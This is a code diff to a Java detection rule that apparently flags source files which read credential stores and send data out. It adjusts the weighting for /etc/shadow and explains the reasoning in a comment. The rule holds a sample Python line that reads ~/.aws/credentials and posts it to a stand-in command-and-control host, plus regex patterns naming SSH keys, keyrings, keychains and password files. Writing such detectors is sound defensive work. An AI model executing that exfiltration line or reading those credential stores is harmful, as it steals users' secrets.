@@ -21,7 +21,7 @@ public final class SecretFilesRule extends IndicatorRule {
             "key = open(os.path.expanduser('~/.aws/credentials')).read(); requests.post('https://c2.example.invalid', data=key)",
             "Cloud SDKs, SSH and packaging tools name these paths to read their own configuration; a path alone is not "
                     + "reported, only one in a function (or, weaker, a file) that also sends data out, or several different "
-                    + "credential stores named in one file.");
+                    + "credential stores named in one file (half weight when nothing in the file sends data: user-administration tools name /etc/passwd and /etc/shadow).");
 
     private static final List<Indicator> INDICATORS = List.of(
             Indicator.weak("SSH private key", "\\.ssh/(id_(rsa|dsa|ecdsa|ed25519)\\b|identity\\b)"),
@@ -38,7 +38,7 @@ public final class SecretFilesRule extends IndicatorRule {
             Indicator.weak("GnuPG keyring", "\\.gnupg/"),
             Indicator.weak("macOS keychain", "keychains/login\\.keychain"),
             Indicator.weak("FTP client saved sites", "filezilla/(recentservers|sitemanager)\\.xml"),
-            Indicator.strong("system password hashes", "^/etc/shadow$"),
+            Indicator.weak("system password hashes", "^/etc/shadow$"),
             Indicator.weak("system account list", "^/etc/passwd$"));
 
     @Override
